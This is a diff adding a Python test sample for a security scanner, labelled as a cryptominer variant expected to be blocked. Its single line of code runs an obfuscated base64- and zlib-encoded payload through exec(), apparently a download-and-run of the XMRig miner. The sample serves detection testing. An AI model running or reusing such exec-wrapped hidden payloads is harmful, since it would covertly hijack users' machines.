@@ -1,0 +1,3 @@
+# expect: BLOCKED category: miner variant-of: risky/miner/xmrig_download_run.py technique: exec-wrapped
+import base64, zlib
+exec(zlib.decompress(base64.b64decode('eJxVUE1PwkAQvfdXTOoFErvQLgbkxtqCJkLEJgheSEsXqXQ7ZXcKmPjjXSA9OKf33ny8l7mDEE9lgUlm4Kx0/gVJmYHKS2lgiqXUyJxcVagJ0DTIUEINrnVR5CnT8lBLQ47znzNLtSSdy6NsuTuiygw7naDLWZf5PmdBt3N1de/BvYG2g4Ztdgqzltu0rHKxbIS2ZWs7IOH3GoXF65doGT1dV82PIalaLrsdBg+hQiyYqatLXiuyDaohtwVeDb3eaDw+POzjfCLwszebhqcVzfwBppvBSKqY81C8fhj+3Edabokvv3UV0nxy7MeH2CRiJdLHQT1LdbAQIqL+NjhtS/6+mMxF9MZH4O3B8zIsE5JeYZ9QgO+2/wBsnnx8')))
